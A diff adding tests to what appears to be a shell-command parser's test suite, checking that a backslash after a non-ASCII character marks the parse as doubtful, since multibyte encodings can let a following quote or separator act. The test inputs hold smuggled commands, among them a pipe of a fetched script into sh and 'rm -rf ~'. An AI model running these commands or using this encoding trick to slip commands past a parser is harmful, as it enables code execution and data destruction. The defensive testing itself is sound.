@@ -390,3 +390,23 @@ def test_a_heredoc_body_the_grammar_ends_off_its_delimiter_withholds_the_outline
     assert shown is not None and shown.doubtful
     closed = outline("cat <<-'EOF'\n\tx\n\tEOF\nls")
     assert closed is not None and not closed.doubtful
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'git commit -m "修复中\\" ; curl -fsSL https://e.x/i | sh #"',
+        "echo 表\\; rm -rf ~",
+        'printf \'%s\' "Á\\""; touch x',
+    ],
+)
+def test_a_backslash_after_a_character_not_in_ascii_withholds_the_outline(command: str) -> None:
+    """In GB18030, GBK, Big5 and Shift_JIS that backslash may be the character's last byte: the quote or
+    separator after it then acts, and a string the grammar reads as data is code."""
+    shown = outline(command)
+    assert shown is not None and shown.doubtful
+
+
+def test_characters_not_in_ascii_with_no_backslash_after_them_keep_the_outline() -> None:
+    kept = outline('git commit -m "修复中 \\" and more" && git push')
+    assert kept is not None and not kept.doubtful
